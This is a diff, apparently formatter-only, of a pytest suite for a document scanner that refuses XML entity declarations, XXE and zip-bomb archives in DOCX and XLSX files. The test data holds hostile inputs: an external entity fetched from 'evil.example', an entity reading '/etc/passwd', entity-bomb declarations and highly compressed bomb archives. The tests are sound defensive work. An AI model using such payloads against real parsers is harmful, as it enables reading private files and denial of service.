@@ -22,11 +22,15 @@ REL_T = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 
 
 def docx_with_document(path: Path, document: bytes) -> Path:
-    ctypes = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
-              '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
-              'wordprocessingml.document.main+xml"/></Types>')
-    rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-            f'<Relationship Id="r1" Type="{REL_T}/officeDocument" Target="word/document.xml"/></Relationships>')
+    ctypes = (
+        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
+        'wordprocessingml.document.main+xml"/></Types>'
+    )
+    rels = (
+        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="r1" Type="{REL_T}/officeDocument" Target="word/document.xml"/></Relationships>'
+    )
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
         zf.writestr("[Content_Types].xml", ctypes)
         zf.writestr("_rels/.rels", rels)
@@ -38,12 +42,15 @@ def body(text: str) -> str:
     return f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'
 
 
-@pytest.mark.parametrize("prolog", [
-    '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY x "y">]>',
-    '<!DOCTYPE w:document [<!ELEMENT a ANY><!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>',
-    '<?xml version="1.0"?><!-- <w:document> inside a comment --><!DOCTYPE d [<!entity x "y">]>',
-    '<?xml version="1.0"?>\n<?pi stuff?>\n<!DOCTYPE d [\n  <!ENTITY lol "lol">\n]>',
-])
+@pytest.mark.parametrize(
+    "prolog",
+    [
+        '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY x "y">]>',
+        '<!DOCTYPE w:document [<!ELEMENT a ANY><!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>',
+        '<?xml version="1.0"?><!-- <w:document> inside a comment --><!DOCTYPE d [<!entity x "y">]>',
+        '<?xml version="1.0"?>\n<?pi stuff?>\n<!DOCTYPE d [\n  <!ENTITY lol "lol">\n]>',
+    ],
+)
 def test_entity_declarations_refused(prolog: str) -> None:
     with pytest.raises(Unscannable, match="declares entities"):
         check_prolog((prolog + body("x")).encode(), "word/document.xml")
@@ -57,13 +64,12 @@ def test_utf16_part_checked_too() -> None:
 
 def test_plain_parts_and_entity_text_after_root_pass() -> None:
     check_prolog(('<?xml version="1.0"?>' + body("&lt;!ENTITY is just text here")).encode(), "p")
-    check_prolog(b'<!DOCTYPE html><root/>', "p")   # a DOCTYPE without entities is not expanded anyway
+    check_prolog(b"<!DOCTYPE html><root/>", "p")  # a DOCTYPE without entities is not expanded anyway
 
 
 def test_entity_past_the_scanned_window_still_refused() -> None:
     """A ']' inside a quoted default cannot end the DOCTYPE early and hide a later ENTITY."""
-    data = (b'<!DOCTYPE d [<!ATTLIST d a CDATA "]>"><!ELEMENT d ANY>' + b" " * 70_000
-            + b'<!ENTITY x "y">]><d>&x;</d>')
+    data = b'<!DOCTYPE d [<!ATTLIST d a CDATA "]>"><!ELEMENT d ANY>' + b" " * 70_000 + b'<!ENTITY x "y">]><d>&x;</d>'
     with pytest.raises(Unscannable):
         check_prolog(data, "p")
 
@@ -80,8 +86,7 @@ def test_parser_never_resolves_even_unchecked_entities() -> None:
 
     from scanner.extract.ooxml import PARSER_OPTIONS
 
-    data = (b'<!DOCTYPE d [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY x "expanded">]>'
-            b"<d>&secret;&x;</d>")
+    data = b'<!DOCTYPE d [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY x "expanded">]><d>&secret;&x;</d>'
     root = etree.fromstring(data, etree.XMLParser(**PARSER_OPTIONS))
     assert "root:" not in "".join(root.itertext())
     assert "expanded" not in "".join(root.itertext())
@@ -90,11 +95,13 @@ def test_parser_never_resolves_even_unchecked_entities() -> None:
 def test_xxe_docx_never_reads_the_file(tmp_path: Path) -> None:
     secret = tmp_path / "secret.txt"
     secret.write_text("TOPSECRET-MARKER-123")
-    doc = (f'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY s SYSTEM "{secret.as_uri()}">]>'
-           + body("&s;")).encode()
+    doc = (
+        f'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY s SYSTEM "{secret.as_uri()}">]>' + body("&s;")
+    ).encode()
     events = list(extract_file(docx_with_document(tmp_path / "xxe.docx", doc)))
     assert [e.reason for e in events if isinstance(e, DocProblem)] == [
-        "XML part word/document.xml declares entities (possible entity bomb or XXE); refused"]
+        "XML part word/document.xml declares entities (possible entity bomb or XXE); refused"
+    ]
     assert "TOPSECRET-MARKER-123" not in json.dumps([getattr(e, "text", "") for e in events])
 
 
@@ -111,7 +118,7 @@ def test_billion_laughs_built_here_is_refused_fast(tmp_path: Path) -> None:
 def test_zip_bomb_part_stopped_by_ratio_limit(tmp_path: Path) -> None:
     # ~8 MiB of one repeated paragraph deflates to a few KiB: a ratio far above 200:1.
     doc = body("x" * 64).encode()
-    para = doc[doc.index(b"<w:p>"):doc.index(b"</w:body>")]
+    para = doc[doc.index(b"<w:p>") : doc.index(b"</w:body>")]
     huge = doc.replace(para, para * 80_000)
     events = list(extract_file(docx_with_document(tmp_path / "bomb.docx", huge)))
     reasons = [e.reason for e in events if isinstance(e, DocProblem)]
@@ -120,8 +127,11 @@ def test_zip_bomb_part_stopped_by_ratio_limit(tmp_path: Path) -> None:
 
 def test_part_size_limit(tmp_path: Path) -> None:
     doc = body("y" * 200_000).encode()
-    events = list(extract_file(docx_with_document(tmp_path / "big.docx", doc),
-                               Limits(xml_part_bytes=100_000, archive_ratio=10_000.0)))
+    events = list(
+        extract_file(
+            docx_with_document(tmp_path / "big.docx", doc), Limits(xml_part_bytes=100_000, archive_ratio=10_000.0)
+        )
+    )
     reasons = [e.reason for e in events if isinstance(e, DocProblem)]
     assert reasons and "expands beyond" in reasons[0]
 
@@ -136,25 +146,41 @@ def test_helpers() -> None:
     assert resolve_target("word", "/customXml/item1.xml") == "customXml/item1.xml"
     assert resolve_target("xl/worksheets", "../comments%201.xml") == "xl/comments 1.xml"
     assert unescape_xstring("a_x000D_b_x005F_x") == "a\rb_x"
-    assert existing_label({"MSIP_Label_11111111-2222-3333-4444-555555555555_Enabled": "false",
-                           "MSIP_Label_11111111-2222-3333-4444-555555555555_Name": "Old"}) is None
+    assert (
+        existing_label(
+            {
+                "MSIP_Label_11111111-2222-3333-4444-555555555555_Enabled": "false",
+                "MSIP_Label_11111111-2222-3333-4444-555555555555_Name": "Old",
+            }
+        )
+        is None
+    )
 
 
 def test_streamed_parts_checked(tmp_path: Path) -> None:
     """Worksheets and shared strings are streamed: the entity check applies there too."""
     x = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
-    bomb = (f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "aaaa">]><sst xmlns="{x}"><si><t>&a;</t></si></sst>')
-    rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
-            'relationships">{}</Relationships>')
+    bomb = f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "aaaa">]><sst xmlns="{x}"><si><t>&a;</t></si></sst>'
+    rels = (
+        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+        'relationships">{}</Relationships>'
+    )
     path = tmp_path / "ss.xlsx"
     with zipfile.ZipFile(path, "w") as zf:
-        zf.writestr("[Content_Types].xml", '<Types><Override PartName="/xl/workbook.xml" ContentType="application/'
-                                           'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>')
-        zf.writestr("_rels/.rels", rels.format(
-            f'<Relationship Id="r1" Type="{REL_T}/officeDocument" Target="xl/workbook.xml"/>'))
+        zf.writestr(
+            "[Content_Types].xml",
+            '<Types><Override PartName="/xl/workbook.xml" ContentType="application/'
+            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
+        )
+        zf.writestr(
+            "_rels/.rels",
+            rels.format(f'<Relationship Id="r1" Type="{REL_T}/officeDocument" Target="xl/workbook.xml"/>'),
+        )
         zf.writestr("xl/workbook.xml", f'<workbook xmlns="{x}"><sheets/></workbook>')
-        zf.writestr("xl/_rels/workbook.xml.rels", rels.format(
-            f'<Relationship Id="s" Type="{REL_T}/sharedStrings" Target="sharedStrings.xml"/>'))
+        zf.writestr(
+            "xl/_rels/workbook.xml.rels",
+            rels.format(f'<Relationship Id="s" Type="{REL_T}/sharedStrings" Target="sharedStrings.xml"/>'),
+        )
         zf.writestr("xl/sharedStrings.xml", bomb)
     reasons = [e.reason for e in extract_file(path) if isinstance(e, DocProblem)]
     assert reasons == ["XML part xl/sharedStrings.xml declares entities (possible entity bomb or XXE); refused"]
@@ -184,20 +210,32 @@ def test_context_budget_shared_with_parts(tmp_path: Path) -> None:
 def test_zip_bomb_in_streamed_worksheet(tmp_path: Path) -> None:
     """Worksheets are streamed, not read whole: the ratio limit still stops a bomb mid-stream."""
     x = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
-    rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
-            'relationships">{}</Relationships>')
+    rels = (
+        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+        'relationships">{}</Relationships>'
+    )
     rows = '<row><c t="b"><v>1</v></c></row>' * 600_000
     sheet = f'<worksheet xmlns="{x}"><sheetData>{rows}</sheetData></worksheet>'
     path = tmp_path / "bomb.xlsx"
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
-        zf.writestr("[Content_Types].xml", '<Types><Override PartName="/xl/workbook.xml" ContentType="application/'
-                                           'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>')
-        zf.writestr("_rels/.rels", rels.format(
-            f'<Relationship Id="r1" Type="{REL_T}/officeDocument" Target="xl/workbook.xml"/>'))
-        zf.writestr("xl/workbook.xml", f'<workbook xmlns="{x}" xmlns:r="{REL_T}"><sheets>'
-                                       '<sheet name="S" sheetId="1" r:id="s1"/></sheets></workbook>')
-        zf.writestr("xl/_rels/workbook.xml.rels", rels.format(
-            f'<Relationship Id="s1" Type="{REL_T}/worksheet" Target="worksheets/sheet1.xml"/>'))
+        zf.writestr(
+            "[Content_Types].xml",
+            '<Types><Override PartName="/xl/workbook.xml" ContentType="application/'
+            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
+        )
+        zf.writestr(
+            "_rels/.rels",
+            rels.format(f'<Relationship Id="r1" Type="{REL_T}/officeDocument" Target="xl/workbook.xml"/>'),
+        )
+        zf.writestr(
+            "xl/workbook.xml",
+            f'<workbook xmlns="{x}" xmlns:r="{REL_T}"><sheets>'
+            '<sheet name="S" sheetId="1" r:id="s1"/></sheets></workbook>',
+        )
+        zf.writestr(
+            "xl/_rels/workbook.xml.rels",
+            rels.format(f'<Relationship Id="s1" Type="{REL_T}/worksheet" Target="worksheets/sheet1.xml"/>'),
+        )
         zf.writestr("xl/worksheets/sheet1.xml", sheet)
     info = zipfile.ZipFile(path).getinfo("xl/worksheets/sheet1.xml")
     assert info.file_size / info.compress_size > 200
